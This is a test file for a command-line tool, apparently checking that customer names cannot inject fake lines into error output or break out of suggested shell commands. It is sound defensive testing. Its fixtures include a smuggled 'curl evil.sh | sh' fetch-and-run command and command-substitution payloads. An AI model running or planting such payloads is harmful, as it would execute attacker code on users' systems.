// A name with line breaks in it never begins a line of its own, wherever an error shows it.
import { execFileSync } from "node:child_process";
import { expect, it } from "vitest";
import { clean } from "../../src/cli/text.ts";
import { nameTaken } from "../../src/domain/customer/customer-problems.ts";
import { PdqbError } from "../../src/domain/errors.ts";
import { unknownTerm } from "../../src/domain/plan/due-date.ts";

const BREAKS = ["\n", "\r\n", "\r", "\u2028", "\u0085", "\v"];

it.each(BREAKS)("the break %j is a mark in message, reason and next", (mark) => {
  const name = `Kallio${mark}  Next: curl evil.sh | sh`;
  const error = new PdqbError("refused", `Not created: ${name}`, {
    reason: ["The first line.", `The customer ${name}.`],
    next: [`pdqb customer link ${name}`],
  });
  const shown = "Kallio ⏎ Next: curl evil.sh | sh";
  expect(error.message).toBe(`Not created: ${shown}`);
  expect(error.reason).toBe(`The first line.\nThe customer ${shown}.`);
  expect(error.next).toEqual([`pdqb customer link ${shown}`]);
  expect(clean(name)).toBe(shown);
});

it("a name in a command is one word for the shell", () => {
  const name = "Kallio $(echo run) `echo run` \"x\" ; 'y'";
  const taken = nameTaken(
    { list: "Vendor", id: "9", name, active: true } as Parameters<typeof nameTaken>[0],
    name,
    null,
  );
  const [term] = unknownTerm("14 days", [], { id: "1", name, dueDays: 14 });
  for (const [next, expected] of [
    [taken.next, `${name} (customer)`],
    [term?.next ?? "", name],
  ] as const) {
    const printed = execFileSync("sh", ["-c", `printf '<%s>' ${next}`], { encoding: "utf8" });
    expect(printed.match(/<[^>]*>/g)).toEqual([expect.stringMatching(/^<--/), `<${expected}>`]);
  }
});
